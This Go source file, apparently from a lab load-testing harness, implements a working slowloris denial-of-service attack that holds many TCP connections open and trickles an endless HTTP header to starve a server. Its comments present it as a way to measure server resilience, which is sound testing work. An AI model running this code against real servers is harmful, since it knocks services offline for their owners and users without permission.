package lab

import (
	"context"
	"net"
	"strings"
	"time"
)

// slowTicks is how many turns a second the slowloris goroutine takes:
// each turn sends a byte on 1/slowTicks of the connections, so that every
// connection gets a byte a second and the writes are spread evenly.
const slowTicks = 100

// slowConn is one slowloris connection and how much of its head it sent.
type slowConn struct {
	c    net.Conn
	sent int
}

// slowloris runs AttackSlowloris from one goroutine: a byte a second on
// every connection, a connection the server cut (a write fails) replaced
// within the redial budget. One goroutine and no per-connection timers
// keep the attack's own cost on the generator's core small, so that what
// the load loses is what the server loses.
func (at *attacker) slowloris(ctx context.Context, delay time.Duration) {
	if !sleepCtx(ctx, delay) {
		return
	}
	head := "GET / HTTP/1.1\r\nHost: x\r\nX-Slow: " + strings.Repeat("a", 1<<16)
	conns := make([]slowConn, at.a.Connections)
	defer func() {
		for _, s := range conns {
			if s.c != nil {
				s.c.Close()
			}
		}
	}()
	d := net.Dialer{Timeout: 2 * time.Second}
	dial := func(s *slowConn) {
		c, err := d.DialContext(ctx, "tcp", at.addr)
		if err != nil {
			if ctx.Err() == nil {
				at.failed.Add(1)
			}
			return
		}
		at.opened.Add(1)
		*s = slowConn{c: c}
	}
	per := (len(conns) + slowTicks - 1) / slowTicks
	tick := time.NewTicker(time.Second / slowTicks)
	defer tick.Stop()
	for turn := 0; ; turn++ {
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
		}
		first := (turn % slowTicks) * per
		for i := first; i < min(first+per, len(conns)); i++ {
			s := &conns[i]
			if s.c == nil {
				// Not yet opened (the first second opens them all, in
				// turns), or cut and waiting for a redial slot.
				if turn < slowTicks || at.tryRedial() {
					dial(s)
				}
				continue
			}
			s.c.SetWriteDeadline(time.Now().Add(10 * time.Millisecond))
			n, err := s.c.Write([]byte{head[s.sent%len(head)]})
			at.bytes.Add(int64(n))
			if err != nil {
				s.c.Close()
				s.c = nil
				if ctx.Err() == nil {
					at.cut.Add(1)
				}
				continue
			}
			s.sent++
		}
	}
}

// tryRedial takes a redial slot if one is free now, without waiting.
func (at *attacker) tryRedial() bool {
	now := time.Now().UnixNano()
	next := at.nextRedial.Load()
	if next > now {
		return false
	}
	return at.nextRedial.CompareAndSwap(next, now+int64(time.Second/maxRedials))
}
